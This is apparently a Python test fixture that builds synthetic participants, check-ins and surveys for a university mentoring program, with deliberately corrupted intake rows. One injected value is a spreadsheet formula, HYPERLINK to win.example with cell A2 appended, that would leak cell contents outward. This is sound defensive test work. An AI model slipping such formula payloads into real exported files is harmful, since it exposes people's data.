"""The made-up people of the university program: first-years and upper-years, in English and Arabic."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from datetime import date
from functools import cached_property

from tests.samples.drawing import Draw
from tests.samples.people import Applicant
from tests.samples.scales import point
from tests.samples.sheets import Row, csv_file
from tests.samples.university_people import NEEDS, measures, mentee, mentor
from tests.samples.university_words import WORDS

MENTEES, LATE_MENTEES, MENTORS, LATE_MENTORS = 52, 14, 36, 6


class University:
    """See people.Profile."""

    program = "university-first-year"
    key = "student_number"
    days: Sequence[date] = (
        date(2027, 9, 13), date(2027, 9, 27), date(2027, 9, 29), date(2027, 10, 25), date(2027, 11, 22),
        date(2028, 1, 10), date(2028, 2, 14), date(2028, 4, 14),
    )  # fmt: skip
    tales: Sequence[str] = (
        "poor_fit", "burden", "leaning", "apart", "quiet", "unsafe", "worries", "fears", "only_one", "gone", "words",
        "enough", "leaves", "poor_fit", "burden", "quiet",
    )  # fmt: skip
    closures: Mapping[str, tuple[int, str]] = {
        "poor_fit": (4, "both would rather talk with someone else; said kindly, on both sides"),
        "gone": (5, "couldn't be reached since October, by mail, phone or note"),
        "enough": (5, "earlier than planned, because it isn't needed any more"),
        "leaves": (6, "moves to another university in February; they said goodbye"),
    }
    decided: Sequence[tuple[str, str, str]] = ()
    outcomes: Mapping[str, Sequence[str]] = {
        "unsafe_at_intake": ("rang within the hour; sees a counsellor this week; wants the mentor as well",),
        "unsafe_at_check_in": ("rang at once, met the same afternoon; a friend stays over",),
        "mentor_fears_danger": ("met mentor and mentee the same day; a plan is made",),
        "mentor_worries": ("talked it through with the mentor; asked after a week",),
        "words_of_harm": ("rang; spoke of a friend's loss, not of themselves",),
        "more_than_a_mentor": ("invited to the counselling service, which comes first",),
        "mentor_burden": ("a month with one meeting fewer, and the debrief on Mondays",),
        "leaning_hard": ("talked about the nights; every two weeks again, and the open kitchen",),
        "only_one_person": ("went to the language café together",),
        "talking_past_each_other": ("the desk sat with them once; slower and in both languages",),
        "not_met": ("rang both; they meet on Thursday", "rang both; exams came first, a date is set"),
        "not_a_fit": ("rang both; it ends kindly", "rang both; they'd like four more weeks"),
        "silent_pair": ("exams; all is well", "wrote and rang; answered after a week", "left a note at the hall"),
    }

    def applicants(self) -> Sequence[Applicant]:
        return self._everyone

    @cached_property
    def _everyone(self) -> tuple[Applicant, ...]:
        mentees = [mentee(place, int(place > MENTEES)) for place in range(1, MENTEES + LATE_MENTEES + 1)]
        mentors = [mentor(place, int(place > MENTORS)) for place in range(1, MENTORS + LATE_MENTORS + 1)]
        return (*mentees, *mentors)

    def survey(self) -> Sequence[Row]:
        return tuple(_surveyed(Draw("university survey", place)) for place in range(81))

    def spoil(self, wave: int, rows: list[dict[str, str]]) -> list[dict[str, str]]:
        if wave != 0 or not rows:
            return rows
        like = rows[0]
        wrong = [
            {**like, "student_number": "U1301", "age": "230"},
            {**like, "student_number": "U1302", "email": "amal at campus.example"},
            {**like, "student_number": ""},
            {**like, "student_number": "U1303", "form": "intake-friend"},
            {**like, "student_number": "U1304", "mobile": ""},
            dict.fromkeys(like, ""),
        ]
        later = next(dict(row) for row in rows if row["student_number"] == "U1015")
        later |= {"student_number": " u1015 ", "email": later["email"].upper(), "submitted": "2027-09-12 23:05"}
        _set(rows, "U1006", interests="walking; beekeeping", heard_from="a flyer in the rain")
        _set(rows, "U1020", hopes='=HYPERLINK("https://win.example/?q="&A2,"my hopes")')
        _set(rows, "U1033", preferred_name="  Freya ")
        return [*rows[:21], *wrong[:3], *rows[21:60], *wrong[3:], *rows[60:], later]

    def check_in(self, person: Applicant, role: str, form: str, tale: str, number: int) -> Row:
        draw = person.drawing(form, number)
        share = person.share_after(number)
        kind = "longer" if "longer_look" in form else "regular" if "regular" in form else "first"
        row = {"safe_today": draw.weighted({"safe": 15.0, "low_but_safe": 1})}
        if kind == "longer":
            row |= {
                "goals_progress": point(draw, 0.35 + 0.15 * number, 1, 5, 0.2),
                "leaning_on": point(draw, 0.25, 1, 3, 0.2),
            }
            row |= {"others_around": point(draw, 0.3 + share / 2, 2, 5, 0.2)} if role == "mentee" else {}
        else:
            row |= {
                "met_times": draw.weighted({"1": 3.0, "2": 6, "0": 0.5}),
                "fit": "good" if draw.chance(0.9) else "undecided",
            }
            row |= {"felt_heard": point(draw, 0.75, 2, 5, 0.22)} if role == "mentee" else {"worried_for": "no"}
        if role == "mentor" and kind != "longer":
            row["energy"] = point(draw, 0.12 + share / 2, 2, 5, 0.2)
        if kind == "regular":
            row |= {
                "message_days": str(draw.whole(0, 3)),
                "night_messages": draw.weighted({"never": 7.0, "once_or_twice": 1}),
            }
            row |= {"follows_home": point(draw, 0.25, 1, 4, 0.2)} if role == "mentor" else {}
        if kind != "first":
            row["understood"] = point(draw, 0.82, 3, 5, 0.2)
        if kind != "longer" and draw.chance(0.07):
            row["hard_thing"] = draw.one(WORDS["hard"][person.language])
        return row | _tale(tale, role, number, kind)

    def measure(self, person: Applicant, months: int, tells: bool) -> Row:
        draw = person.drawing("measure", months)
        row = measures(draw, person.role, person.language, person.share_after(months))
        if tells and person.role == "mentee" and draw.chance(0.7):
            row["story_changed"] = draw.one(WORDS["changed"][person.language])
            row["quotes_consent"] = "yes" if draw.chance(0.55) else "no"
        if person.role == "mentor" and months >= 6 and draw.chance(0.6):
            row |= {"story_mentor": draw.one(WORDS["learnt"][person.language]), "quotes_consent": "yes"}
        return row

    def goals(self, person: Applicant, number: int) -> str:
        kind = "goal" if person.role == "mentee" else "mentor_goal"
        return person.drawing("goal", number).one(WORDS[kind][person.language])

    def feedback(self, person: Applicant, session: str) -> Row:
        draw = person.drawing("feedback", session)
        words = draw.one(WORDS["session"][person.language]) if draw.chance(0.4) else ""
        return {"session_welcome": point(draw, 0.82, 1, 5, 0.2), "session_wish": words}

    def leaves(self, person: Applicant, tale: str) -> Row:
        draw = person.drawing("exit", tale)
        how = {"poor_fit": "no_fit", "gone": "faded", "enough": "no_longer_needed", "leaves": "left_university"}
        row = {
            "exit_how": how.get(tale, "as_planned"),
            "exit_recommend": point(draw, 0.5 if tale in ("poor_fit", "gone") else 0.85, 1, 5, 0.15),
            "exit_better": draw.one(WORDS["better"][person.language]),
        }
        return row | (
            {"exit_next": draw.weighted({"yes": 3.0, "maybe": 4, "no": 2})} if person.role == "mentee" else {}
        )

    def file(self, name: str, wave: int, rows: Sequence[Row]) -> tuple[str, bytes]:
        data = csv_file(rows)
        return f"{name}.csv", b"\xef\xbb\xbf" + data if name == "intake" else data  # as a spreadsheet saves UTF-8


def _set(rows: list[dict[str, str]], number: str, **answers: str) -> None:
    next(row for row in rows if row["student_number"] == number).update(answers)


def _tale(tale: str, role: str, number: int, kind: str) -> dict[str, str]:
    """What is different in the answers of somebody to whom this happens. kind: first, regular or longer."""
    match tale, role, kind:
        case "poor_fit", _, "first" | "regular":
            return {"fit": "not_good"} | ({"felt_heard": "3"} if role == "mentee" else {})
        case "burden", "mentor", "regular" if number in (2, 3):
            return {"energy": "2", "follows_home": "4"}
        case "leaning", _, "regular" if number in (1, 2):
            return {"message_days": "7", "night_messages": "often"}
        case "apart", _, "regular" if number == 1:
            return {"understood": "2"}
        case "unsafe", "mentee", "regular" if number == 2:
            return {"safe_today": "thoughts"}
        case "worries", "mentor", "regular" if number == 1:
            return {"worried_for": "somewhat"}
        case "fears", "mentor", "regular" if number == 6:
            return {"worried_for": "danger"}
        case "only_one", "mentee", "longer":
            return {"leaning_on": "5", "others_around": "1"}
        case "words", "mentee", "regular" if number == 2:
            return {"hard_thing": "A friend at home says he doesn't want to live any more. What do I tell him?"}
    return {}


def _surveyed(draw: Draw) -> Row:
    language = draw.one(("en", "en", "en", "ar"))
    return {
        "survey_needs": "; ".join(draw.many(NEEDS, draw.whole(1, 4))),
        "survey_told": draw.weighted({"friends_family": 4.0, "university": 1, "nobody": 4}),
        "survey_would_come": str(draw.whole(2, 5)),
        "survey_missing": draw.one(WORDS["survey"][language]),
    }
